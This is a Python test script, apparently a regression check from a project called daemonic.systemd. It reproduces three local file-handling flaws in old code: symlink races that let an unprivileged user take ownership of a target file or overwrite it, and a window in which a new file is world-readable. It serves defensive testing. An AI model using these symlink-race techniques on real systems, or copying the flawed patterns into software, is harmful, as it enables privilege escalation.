# SPDX-FileCopyrightText: The daemonic.systemd contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""What the collection did by path before: each step shows that the attack on it works. Anna's part is done in between.

old.py stage FILE TARGET | copy FILE TO TARGET | mode FILE
"""

import hashlib
import os
import pwd
import shutil
import sys

ANNA = pwd.getpwnam("attacks_anna")


def as_anna(do):
    os.seteuid(ANNA.pw_uid)
    try:
        return do()
    finally:
        os.seteuid(0)


def beside(path, ending):
    digest = hashlib.sha256(path.encode()).hexdigest()[:16]
    return f"{os.path.dirname(path)}/.daemonic-{digest}.{ending}"


def stage(path, target):
    """Owner and mode were set by name."""
    new = beside(path, "new")
    os.close(os.open(new, os.O_WRONLY | os.O_CREAT | os.O_EXCL | os.O_NOFOLLOW, 0o600))
    as_anna(lambda: (os.rename(new, f"{new}.taken"), os.symlink(target, new), os.unlink(f"{new}.taken")))
    os.chown(new, ANNA.pw_uid, -1)
    os.unlink(new)
    sys.exit(os.stat(target).st_uid != ANNA.pw_uid)


def copy(path, to, target):
    """Copies were written through what lay at the name."""
    new = beside(to, "new")
    as_anna(lambda: os.symlink(target, new))
    shutil.copy2(path, new)
    os.unlink(new)
    with open(target) as now, open(path) as copied:
        sys.exit(now.read() != copied.read())


def mode(path):
    """A new file was made readable by all, and then as declared."""
    new = beside(path, "new")
    os.close(os.open(new, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600))
    os.chmod(new, 0o644)
    can_read = as_anna(lambda: os.access(new, os.R_OK, effective_ids=True))
    os.chmod(new, 0o600)
    os.unlink(new)
    sys.exit(not can_read)


{"stage": stage, "copy": copy, "mode": mode}[sys.argv[1]](*sys.argv[2:])
